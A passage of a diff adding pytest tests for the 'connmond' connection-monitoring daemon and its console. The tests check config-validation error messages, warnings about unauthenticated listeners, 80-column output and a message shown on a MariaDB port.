+        "connmon reads [connmon_service_NAME] sections (and logging's); did "
+        "you mean [connmon_service_b]?",
+        f"connmond: error: {path}:16: [connmon_service_a] unexpected "
+        "'hostnme=h' in node line 'n2 hostnme=h'; expected "
+        "hostname=HOST[:PORT] [bind=ADDR[:PORT]]",
+        f"connmond: error: {path}:11: [connmon_service_a] hold_warn_seconds: "
+        "expected a number of seconds from 0.1 to 86400, got 'soon'",
+        f"connmond: error: {path}:12: [connmon_service_a] unknown option "
+        "'metrics_prot' (did you mean metrics_port?)",
+        f"connmond: error: {path}:13: [connmon_service_a] csv_dump: "
+        f"directory {tmp_path}/missing does not exist"]
+
+
+def test_check_config_misspelt_section_is_named_not_unknown(tmp_path):
+    path = write(tmp_path, "[connmon_servce_default]\nname: default\n"
+                 "nodes:\n    n1 hostname=127.0.0.1:1\n")
+    result = run_connmond("--check-config", "-c", path)
+    assert result.returncode == 2
+    assert result.stderr == (
+        f"connmond: error: {path}:1: [connmon_servce_default] unknown "
+        "section: connmon reads [connmon_service_NAME] sections (and "
+        "logging's); did you mean [connmon_service_default]?\n")
+
+
+def test_check_config_prints_the_warnings_start_up_logs(tmp_path):
+    path = write(tmp_path, """\
+        [connmon_service_a]
+        name: a
+        metrics_port: 9187
+        metrics_bind: 0.0.0.0
+        nodes:
+            n1 hostname=127.0.0.1:1 bind=0.0.0.0
+        """)
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert result.returncode == 0
+    assert result.stdout.startswith(f"connmond: config OK: {path}")
+    warnings = result.stderr.splitlines()
+    assert len(warnings) == 2, warnings
+    assert warnings[0].startswith(
+        f"connmond: warning: {path}: [connmon_service_a] listening on "
+        "0.0.0.0:1 without auth_secret_file: anyone who can reach")
+    assert warnings[1].startswith(
+        f"connmond: warning: {path}: [connmon_service_a] serving /metrics "
+        "on 0.0.0.0:9187 without metrics_token_file")
+
+
+def test_once_fits_80_columns_and_says_its_sort(alarm_daemon):
+    def once(*args: str, **env: str) -> List[str]:
+        return subprocess.run(
+            [sys.executable, "-m", "connmon_console", "--once", "-H",
+             alarm_daemon.address, *args], cwd=HERE,
+            env={**CHILD_ENV, **env}, capture_output=True, text=True,
+            timeout=30, check=True).stdout.splitlines()
+
+    lines = once(COLUMNS="80")
+    assert max(len(line) for line in lines) <= 80, lines
+    (context,) = [line for line in lines if "sorted by" in line]
+    assert context == "19 rows, sorted by CONN descending"
+    heads = lines[lines.index(context) + 1].split()
+    assert heads[:2] == ["HOSTNAME", "PROGNAME"] and "CONN" in heads
+    rows = [line.split("  (")[0].split()   # (a state mark after a row)
+            for line in lines[lines.index(context) + 2:]
+            if line[:1] not in (" ", "")]
+    rows = [fields for fields in rows if len(fields) == len(heads)]
+    conns = [int(fields[heads.index("CONN")]) for fields in rows]
+    assert len(conns) == 19 and conns == sorted(conns, reverse=True)
+    assert any(line.startswith("ALARMS 4: heat-engine") for line in lines)
+    wide = once("--wide", COLUMNS="80")
+    assert max(len(line) for line in wide) > 80
+    assert "MAXCKOUT" in "\n".join(wide)
+
+
+def test_console_pointed_at_mariadb_says_so_whole(terminal):
+    require_database(MYSQL_URL)
+    term = terminal("-H", "127.0.0.1:3306", cols=80, lines=24)
+    term.wait_text("this looks like a MySQL/MariaDB server")
+    text = " ".join(line.strip() for line in term.display[1:-1])
+    assert "is the port connmond's (default 5800)?" in text
+    assert "(next try in 60s)" in text   # once a minute, not 1, 2, 4 s
